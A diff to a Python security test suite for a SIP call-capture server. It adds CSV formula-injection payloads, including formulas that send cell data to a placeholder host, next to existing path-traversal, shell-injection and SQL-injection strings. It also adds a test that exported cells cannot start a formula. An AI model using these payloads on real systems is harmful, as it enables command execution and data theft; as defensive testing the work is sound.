@@ -4,6 +4,8 @@ no query is made of them (G02), no log line is forged by them (G23), and secrets
 
 Run: EARWITNESS=build/release/earwitness python3 tests/test_hostile.py
 """
+import csv
+import io
 import json
 import os
 import pathlib
@@ -105,11 +107,13 @@ PATHS = ("../../etc/cron.d/x", "..\\..\\windows\\x", "%2e%2e%2f%2e%2e%2fetc%2fcr
          "a;rm -rf x", "$(touch x)", "`touch x`", "CON", ".", "..", "\u202egpj.exe", "\u0416\u4e2d\U0001f3a7", "x" * 4096, "a\";filename=\"b.exe")
 QUERIES = ("'; DROP TABLE call; --", "' OR '1'='1", "\"; DELETE FROM call; --", "') UNION SELECT password_hash FROM account --", "%", "_", "\\", "*",
            "a' || (SELECT 1) || 'b", "1; ATTACH DATABASE '/tmp/x' AS x", "\u2019 OR 1=1", "Robert'); DROP TABLE students;--")
+FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.invalid?\"&A1)",
+            "\t=1+1", "  =1+1", "\u00a0=1+1", "\uff1d1+1", "=IMPORTXML(CONCAT(\"//evil.invalid?\",A1),\"//a\")", "a\",=1+1,\"b", "\",\"=1+1", "=1+1;=2+2")
 FORGED = "2026-01-01T00:00:00Z notice supervisor: Stopped"
 
 
 class Names(unittest.TestCase):
-    """One server that imported calls with PATHS as Call-ID and QUERIES as names and numbers."""
+    """One server that imported calls with PATHS as Call-ID, and QUERIES and FORMULAS as names and numbers."""
 
     @classmethod
     def setUpClass(cls):
@@ -120,10 +124,12 @@ class Names(unittest.TestCase):
         paths = [hostile_sip.plain_fields(number, call_id=text) for number, text in enumerate(PATHS)]
         queries = [hostile_sip.plain_fields(100 + number, from_name=hostile_sip.quoted(text), from_user=hostile_sip.token(text))
                    for number, text in enumerate(QUERIES)]
+        formulas = [hostile_sip.plain_fields(300 + number, from_name=hostile_sip.quoted(text), from_user=hostile_sip.token(text))
+                    for number, text in enumerate(FORMULAS)]
         forged = [hostile_sip.plain_fields(200 + number, user_agent=f"Phone{ending}{FORGED}", subject=f"x{ending}{FORGED}\x1b[2J",
                                            reason_phrase="OK\x1b[31m") for number, ending in enumerate(("\n ", "\r ", "\x0b", "\u2028", "\x1b[1A"))]
-        cls.wanted = len(paths) + len(queries) + len(forged)
-        content = hostile_sip.capture(paths + queries + forged)
+        cls.wanted = len(paths) + len(queries) + len(formulas) + len(forged)
+        content = hostile_sip.capture(paths + queries + formulas + forged)
         imported = import_bytes(cls.anna, "../../etc/cron.d/x.pcap", content)
         assert imported["state"] == "done", imported
         for name in PATHS + (f"a\n{FORGED}", f"a\r\n{FORGED}\x1b[2J"):
@@ -133,6 +139,22 @@ class Names(unittest.TestCase):
     @classmethod
     def tearDownClass(cls):
         cls.server.__exit__()
+
+    def test_no_cell_of_the_table_is_a_formula(self):
+        """As text, and as a spreadsheet reads it: by commas, and by semicolons where the country writes numbers with a comma."""
+        answer = self.anna.api("GET", "/calls/table?from=1970-01-01T00:00:00Z")
+        self.assertEqual((answer.status, answer.headers["Content-Type"]), (200, "text/csv; charset=utf-8"))
+        text = answer.body.decode("utf-8-sig")
+        by_commas = list(csv.reader(io.StringIO(text, newline="")))
+        self.assertEqual({len(row) for row in by_commas}, {len(by_commas[0])})
+        self.assertEqual(len(by_commas), self.wanted + 1)
+        names = [row[by_commas[0].index("caller_name")] for row in by_commas]
+        for formula in FORMULAS:
+            self.assertTrue(any(name.replace("'", "") == formula.replace("'", "").replace("\t", " ") for name in names), formula)
+        for rows in (by_commas, csv.reader(io.StringIO(text, newline=""), delimiter=";")):
+            for cell in (cell for row in rows for cell in row):
+                bare = re.sub(r"^[\s\u00a0\"]+", "", cell)
+                self.assertTrue(re.fullmatch(r"\+\d+", bare) or bare[:1] not in set("=+-@|%\uff1d\uff0b\uff0d\uff20") or bare == "", repr(cell))
 
     def test_files_are_named_by_ids_alone(self):
         self.assertGreaterEqual(len(self.calls), self.wanted - 1)  # a NUL may cost a message its meaning
